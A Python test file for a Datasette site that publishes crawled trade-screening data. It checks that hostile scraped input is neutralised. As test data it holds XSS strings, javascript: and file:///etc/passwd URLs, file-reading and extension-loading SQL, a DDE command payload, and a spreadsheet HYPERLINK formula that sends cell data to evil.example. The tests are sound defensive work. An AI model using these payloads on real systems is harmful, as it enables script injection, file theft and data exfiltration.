"""What the site never shows, on a database crawled from hostile sources through the real engine.

No link that is not http(s) (a `javascript:` source URL, on a page or in an Atom feed);
scraped HTML escaped on every page and feed; no server path; no watchlist string; no
SQL that attaches a file, loads an extension or reads a file. The private database is
owner-only in a directory of its own, and the site refuses to serve it.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import stat
from pathlib import Path
from urllib.parse import quote

import pytest
from datasette.utils import tilde_encode
from lxml import etree
from sqlite_utils import Database

from pipeline.links import safe_url
from pipeline.screening.private.database import open_private
from pipeline.site import PrivateDatabase, make_datasette
from tests.kit.files import FILES, ROOT, edited

SCRIPT = '<script>alert("csl")</script>'
IMAGE = "<img src=x onerror=alert(1)>"
JAVASCRIPT = "javascript:alert(document.domain)"
SECRET_ID, SECRET_LIST = "CUST-SECRET-4471", "vendors-under-review"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    "url, safe",
    [
        ("https://www.trade.gov/consolidated-screening-list", True),
        ("http://bit.ly/1QWTIfE", True),
        ("/chokepoint/listings/csl:EL:1", True),
        ("?_facet=source#export", True),
        ("javascript:alert(document.domain)", False),
        ("  JavaScript:alert(1)", False),
        ("java\tscript:alert(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("vbscript:msgbox(1)", False),
        ("file:///etc/passwd", False),
        ("//evil.example/x", False),
        ("/\\evil.example", False),
        ("https://", False),
        ("", False),
        (None, False),
    ],
)
def test_only_web_addresses_and_site_paths_become_links(url, safe):
    assert (safe_url(url) is not None) == safe


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, forker):
    """A published database crawled from a CSL and a Federal Register page carrying script, markup and
    `javascript:` URLs, screened against a watchlist kept in the private database."""
    folder = tmp_path_factory.mktemp("hostile")
    db_path, private = folder / "chokepoint.db", folder / "private" / "private.db"
    in_csv = SCRIPT.replace('"', '""')  # the cell is quoted: a quote in it is doubled
    csl = edited(folder, FILES / "csl" / "consolidated.csv", "HUAWEI TECHNOLOGIES CO., LTD.", f"HUAWEI {in_csv} CO.")
    csl = edited(folder, csl, "http://bit.ly/1QWTIfE", JAVASCRIPT, count=-1)
    csl = edited(folder, csl, "Presumption of denial", f"Presumption {IMAGE} of denial", count=-1)
    in_cell = FORMULA.replace('"', '""')
    csl = edited(folder, csl, "DAHUA ELECTRONICS CORPORATION", f'"{in_cell}"')
    page = json.loads((FILES / "federal_register" / "documents_2024-01.json").read_text())
    page["results"][0].update(title=f"Notice {SCRIPT}", html_url=JAVASCRIPT, pdf_url="data:text/html,<b>x</b>")
    fr = folder / "documents.json"
    fr.write_text(json.dumps(page))
    vendors = folder / "vendors.csv"
    vendors.write_text(f"name,country,id\nSemiconductor Manufacturing International Corp,CN,{SECRET_ID}\n")
    common = ["--db", str(db_path), "--private-db", str(private)]
    for args in (
        ["watchlist", "add", SECRET_LIST, str(vendors), *common],
        ["crawl", "csl", "--url", csl.as_uri(), "--expect", "1:100", *common],
        ["crawl", "federal_register", "--url", fr.as_uri(), *common],
    ):
        result = forker.run(*args)
        assert result.returncode == 0, result.stderr
    assert open_private(private)["alerts"].count > 0, "the watchlist should have matched"
    return db_path


def fetch(db_path: Path, *paths: str) -> dict[str, str]:
    async def get_all():
        datasette = make_datasette(db_path)
        pages = {}
        for path in paths:
            response = await datasette.client.get(path)
            assert response.status_code in (200, 400), f"{path}: {response.status_code}"
            pages[path] = response.text
        return pages

    return asyncio.run(get_all())


def site_pages(db_path: Path) -> list[str]:
    """Every table and view (HTML and JSON, whole), the row pages of the hostile rows, the feeds, searches."""
    db = Database(db_path)
    name = db_path.stem
    tables = [t for t in db.table_names() + db.view_names() if not t.startswith("_") and "_fts" not in t]
    paths = ["/", f"/{name}", "/-/databases.json", "/-/metadata.json", "/-/plugins.json", "/-/versions.json"]
    for table in tables:
        paths += [f"/{name}/{table}", f"/{name}/{table}.json?_shape=array&_size=max"]
    for row_id in ("csl:CMIC:30947", "federal_register:2024-00273"):
        table = "listings" if row_id.startswith("csl") else "documents"
        paths.append(f"/{name}/{table}/{tilde_encode(row_id)}")
    paths += [
        f"/{name}/listings?_search=huawei",
        f"/{name}/new_documents.atom",
        f"/{name}/listing_changes.atom",
        f"/{name}/new_documents",
        f"/{name}/listing_changes",
    ]
    return paths


def test_no_link_on_any_page_or_feed_is_anything_but_http_or_a_site_path(hostile):
    pages = fetch(hostile, *site_pages(hostile))
    for path, text in pages.items():
        for href in re.findall(r"""href\s*=\s*["']([^"']*)["']""", text, re.IGNORECASE):
            assert safe_url(href.replace("&amp;", "&")) is not None, f"{path} links {href!r}"
    for feed in ("new_documents.atom", "listing_changes.atom"):
        root = etree.fromstring(pages[f"/{hostile.stem}/{feed}"].encode())
        links = [link.get("href") for link in root.iter("{http://www.w3.org/2005/Atom}link")]
        assert links and all(safe_url(href) for href in links), links
    changes = pages[f"/{hostile.stem}/listing_changes.atom"]
    assert "Added: HUAWEI" in changes  # the entry is there, only its link went


def test_a_feed_built_from_any_query_loses_a_javascript_link(hostile):
    sql = f"select 'x' as atom_id, 'A title' as atom_title, '2024-01-01T00:00:00Z' as atom_updated, '{JAVASCRIPT}' as atom_link"
    (feed,) = fetch(hostile, f"/{hostile.stem}.atom?sql={quote(sql)}").values()
    root = etree.fromstring(feed.encode())
    assert [link.get("rel") for link in root.iter("{http://www.w3.org/2005/Atom}link")] == ["self"]
    assert "A title" in feed


def test_scraped_markup_is_escaped_on_every_page_and_feed(hostile):
    pages = fetch(hostile, *site_pages(hostile))
    for path, text in pages.items():
        if ".json" in path:
            continue  # data, served as application/json: a browser never runs it
        assert SCRIPT not in text and IMAGE not in text, f"{path} carries scraped markup unescaped"
    listing = pages[f"/{hostile.stem}/listings/{tilde_encode('csl:CMIC:30947')}"]
    assert "HUAWEI &lt;script&gt;alert(&#34;csl&#34;)&lt;/script&gt; CO." in listing
    assert "&lt;script&gt;" in pages[f"/{hostile.stem}/new_documents.atom"]


def test_no_server_path_anywhere_on_the_site(hostile):
    sql = quote("select * from pragma_database_list")
    pages = fetch(hostile, *site_pages(hostile), f"/{hostile.stem}.json?sql={sql}", f"/{hostile.stem}?sql={sql}")
    for path, text in pages.items():
        for secret in (str(hostile.parent), str(ROOT), str(Path.home()), "file:///"):
            assert secret not in text, f"{path} shows {secret}"
    listed = json.loads(pages[f"/{hostile.stem}.json?sql={sql}"])
    assert listed["rows"] == [[0, "main", None]]
    logged = json.loads(pages[f"/{hostile.stem}/crawl_runs.json?_shape=array&_size=max"])
    assert sorted(run["source_url"] for run in logged) == ["file://…/consolidated.csv", "file://…/documents.json"]


def test_no_watchlist_string_anywhere_on_the_site(hostile):
    db = Database(hostile)
    tables = [t for t in db.table_names() if not t.startswith("sqlite_")]
    queries = [f"/{hostile.stem}.json?sql={quote(f'select * from [{table}]')}&_size=max" for table in tables]
    for path, text in fetch(hostile, *site_pages(hostile), *queries).items():
        assert SECRET_ID not in text and SECRET_LIST not in text, f"{path} shows the private watchlist"


@pytest.mark.parametrize(
    "sql, refused",
    [
        ("attach database '/tmp/x.db' as x", "Statement must be a SELECT"),
        ("select load_extension('/usr/lib/x86_64-linux-gnu/mod_spatialite.so')", "not authorized"),
        ("select readfile('/etc/passwd')", "no such function: readfile"),
        ("select writefile('/tmp/x', 'y')", "no such function: writefile"),
        ("select * from pragma_module_list", "disallowed PRAGMA"),
    ],
)
def test_sql_that_reaches_outside_the_database_is_refused(hostile, sql, refused):
    (text,) = fetch(hostile, f"/{hostile.stem}.json?sql={quote(sql)}").values()
    answer = json.loads(text)
    assert answer["ok"] is False and refused in answer["error"], answer


def test_the_demo_makes_its_private_folder_the_owner_s_alone(tmp_path, monkeypatch):
    from pipeline.crawl import demo

    monkeypatch.setattr(demo, "run_crawls", lambda *args: [])  # the folders, not the crawls
    demo.build(tmp_path / "demo" / "chokepoint.db", tmp_path / "demo" / "private" / "private.db")
    assert stat.S_IMODE((tmp_path / "demo" / "private").stat().st_mode) == 0o700


def test_the_private_database_is_owner_only_in_a_directory_of_its_own(tmp_path):
    path = tmp_path / "data" / "private" / "private.db"
    private = open_private(path)
    private["watchlists"].insert({"name": "x", "created": "now", "entries": 0})
    for file in (path, Path(f"{path}-wal"), Path(f"{path}-shm")):
        assert stat.S_IMODE(file.stat().st_mode) == 0o600, file
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    private.conn.close()
    older = tmp_path / "older.db"
    older.write_bytes(b"")
    older.chmod(0o644)
    open_private(older).conn.close()
    assert stat.S_IMODE(older.stat().st_mode) == 0o600  # an older world-readable file is tightened


def test_the_site_refuses_a_database_holding_private_tables(tmp_path, forker):
    path = tmp_path / "private" / "private.db"
    open_private(path).conn.close()
    with pytest.raises(PrivateDatabase, match="holds private data"):
        make_datasette(path)
    served = forker.run("serve", "--db", str(path))
    assert served.returncode == 1
    assert served.stderr.strip().splitlines() == [
        f"Error: {path} holds private data (watchlists, watchlist_entries, screening_runs, screening_results, "
        "alerts, reviews, digest_subscriptions, digest_log): the site serves only the published database "
        "(e.g. --db data/chokepoint.db)"
    ]


def test_a_csv_download_never_starts_a_cell_with_a_formula(hostile):
    """A listed name the source published as a formula is text in every CSV the site gives: a table's,
    a streamed one, a query's; numbers stay numbers and nothing else changes."""
    name = hostile.stem
    sql = "select '=1+2' as a, -5 as n, '-0.25' as s, '@SUM(A1)' as b, 'line one' || char(10) || '+two' as c"
    stored = f"/{name}.json?sql={quote('select name from listings')}&_shape=arrays&_size=max"
    pages = fetch(
        hostile,
        f"/{name}/listings.csv?_col=name&_size=max",
        f"/{name}/listings.csv?_col=name&_stream=on",
        f"/{name}/listings.csv?_col=name&_size=max&_dl=1",
        f"/{name}.csv?sql={quote(sql)}",
        stored,
    )
    names = [row[0] for row in json.loads(pages[stored])["rows"]]
    assert FORMULA in names  # stored as the source published it; only the CSV cell is made safe
    for path in list(pages)[:3]:
        cells = [row[1] for row in csv.reader(io.StringIO(pages[path]))][1:]
        assert "'" + FORMULA in cells and FORMULA not in cells, path
        assert sorted(cell.removeprefix("'") for cell in cells) == sorted(names), path
    [header, row] = list(csv.reader(io.StringIO(pages[f"/{name}.csv?sql={quote(sql)}"])))
    assert header == ["a", "n", "s", "b", "c"]
    assert row == ["'=1+2", "-5", "-0.25", "'@SUM(A1)", "line one\n+two"]


@pytest.mark.parametrize("size", [1, 2, 3, 7, 64])
def test_the_csv_rewriter_cuts_records_only_where_they_end_whatever_the_chunks(size):
    from pipeline.site.plugins.csv_cells import CsvRewriter

    written = io.StringIO()
    rows = [["id", "name"], ["1", '=cmd|" /C calc"!A0'], ["2", 'two\r\nlines, "quoted"'], ["3", "Müller"], ["4", "-7"]]
    csv.writer(written).writerows(rows)
    data = written.getvalue().encode()
    rewriter = CsvRewriter()
    out = b"".join(rewriter.feed(data[i : i + size]) for i in range(0, len(data), size)) + rewriter.finish()
    expected = [row[:] for row in rows]
    expected[1][1] = "'" + expected[1][1]
    assert list(csv.reader(io.StringIO(out.decode(), newline=""))) == expected
    untouched = data.decode().replace('"=cmd', "\"'=cmd")
    assert out.decode() == untouched  # every other byte as Datasette wrote it
